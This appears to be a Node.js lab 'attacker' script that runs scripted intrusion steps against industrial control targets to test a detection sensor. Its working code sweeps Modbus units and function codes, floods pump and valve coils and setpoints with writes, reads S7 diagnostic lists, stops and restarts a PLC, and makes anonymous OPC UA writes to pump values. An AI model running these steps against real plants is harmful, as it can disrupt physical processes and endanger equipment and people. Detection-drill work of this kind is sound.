// Lab attacker: scripted attack steps from real clients (modbus-serial, node-snap7, node-opcua). Each step is what a
// scanner or an intruder with an engineering tool does, sized so the sensor's bundled rules fire
// (docs/lab.md lists the step → rule table). Prints one JSON line per step with what was sent.
// Usage: node attack.mjs STEP TARGETS_JSON
import { createRequire } from 'node:module';
import { parseTargets, sleep } from './targets.mjs';

// Each step loads only its own client library: node-opcua alone takes seconds to import, and a step's start-up
// time is part of the drill's time-to-detect.
const require = createRequire(import.meta.url);
const step = process.argv[2];
const targets = parseTargets(process.argv[3]);
const result = { step, requests: 0, errors: 0 };

async function modbusClient() {
  const { default: ModbusRTU } = await import('modbus-serial');
  const client = new ModbusRTU();
  await client.connectTCP(targets.modbus.host, { port: targets.modbus.port });
  client.setTimeout(1500);
  return client;
}

/** Runs one request; exceptions and timeouts are part of a sweep, so they are counted, not fatal. */
async function attempt(fn) {
  result.requests++;
  try {
    await fn();
  } catch {
    result.errors++;
  }
}

async function modbusUnitSweep() {
  const c = await modbusClient();
  // 20 unit ids: enumerating the serial devices behind a gateway.
  for (let unit = 1; unit <= 20; unit++) {
    c.setID(unit);
    await attempt(() => c.readHoldingRegisters(0, 1));
  }
  c.close(() => {});
}

async function modbusFcSweep() {
  const c = await modbusClient();
  c.setID(1);
  // Every public function the client library speaks, at a harmless address.
  await attempt(() => c.readCoils(900, 1));
  await attempt(() => c.readDiscreteInputs(900, 1));
  await attempt(() => c.readHoldingRegisters(900, 1));
  await attempt(() => c.readInputRegisters(900, 1));
  await attempt(() => c.writeCoil(900, false));
  await attempt(() => c.writeRegister(900, 0));
  await attempt(() => c.writeCoils(900, [false, false]));
  await attempt(() => c.writeRegisters(900, [0, 0]));
  await attempt(() => c.readDeviceIdentification(1, 0));
  c.close(() => {});
}

async function modbusWriteStorm() {
  const c = await modbusClient();
  c.setID(1);
  // 160 writes in a few seconds: pump and valve coils toggled, setpoints overwritten.
  for (let i = 0; i < 40; i++) {
    await attempt(() => c.writeCoil(0, i % 2 === 0));
    await attempt(() => c.writeCoil(1, i % 2 === 1));
    await attempt(() => c.writeRegister(1, 990 - i));
    await attempt(() => c.writeRegisters(2, [5 + i, 20]));
  }
  c.close(() => {});
}

function s7Connect() {
  const snap7 = require('node-snap7');
  const c = new snap7.S7Client();
  if (targets.s7.port !== 102) c.SetParam(c.RemotePort, targets.s7.port);
  if (!c.ConnectTo(targets.s7.host, 0, 2)) throw new Error(`s7 connect: ${c.ErrorText(c.LastError())}`);
  return c;
}

function s7Szlscan() {
  const c = s7Connect();
  // The lists scanners read: identity, components, status, LEDs, diagnostics buffer, communication.
  for (const id of [0x0000, 0x0011, 0x001c, 0x0424, 0x0019, 0x0074, 0x0111, 0x0131, 0x0132, 0x0232, 0x00a0]) {
    result.requests++;
    try {
      if (!c.ReadSZL(id, 0)) result.errors++;
    } catch {
      result.errors++;
    }
  }
  c.Disconnect();
}

async function s7PlcStop() {
  const c = s7Connect();
  result.requests++;
  if (!c.PlcStop()) result.errors++;
  // Leave the plant stopped for a moment, then restart it so the lab keeps running.
  await sleep(1000);
  result.requests++;
  if (!c.PlcHotStart()) result.errors++;
  c.Disconnect();
}

async function opcuaAnonymousWrite() {
  // Anonymous identity over SecurityMode None: what an intruder does on a server that allows both.
  const { AttributeIds, DataType, MessageSecurityMode, OPCUAClient, SecurityPolicy } = await import('node-opcua');
  const client = OPCUAClient.create({
    applicationName: 'otlab-attacker',
    securityMode: MessageSecurityMode.None,
    securityPolicy: SecurityPolicy.None,
    endpointMustExist: false,
    connectionStrategy: { maxRetry: 2, initialDelay: 200 },
  });
  await client.connect(targets.opcua.url);
  const session = await client.createSession();
  for (const [nodeId, value] of [
    ['ns=1;s=Pump.Speed', { dataType: DataType.Double, value: 3000 }],
    ['ns=1;s=Pump.Running', { dataType: DataType.Boolean, value: false }],
  ]) {
    result.requests++;
    const status = await session.write({ nodeId, attributeId: AttributeIds.Value, value: { value } });
    if (status.value !== 0) result.errors++;
  }
  await session.close();
  await client.disconnect();
}

const STEPS = {
  'modbus-unit-sweep': modbusUnitSweep,
  'modbus-fc-sweep': modbusFcSweep,
  'modbus-write-storm': modbusWriteStorm,
  's7-szl-scan': s7Szlscan,
  's7-plc-stop': s7PlcStop,
  'opcua-anonymous-write': opcuaAnonymousWrite,
};

const run = STEPS[step];
if (!run) {
  process.stderr.write(`attack: unknown step '${step}' (${Object.keys(STEPS).join(', ')})\n`);
  process.exit(2);
}
try {
  await run();
  process.stdout.write(`${JSON.stringify(result)}\n`);
  process.exit(0);
} catch (err) {
  process.stderr.write(`attack ${step}: ${err.message}\n`);
  process.exit(1);
}
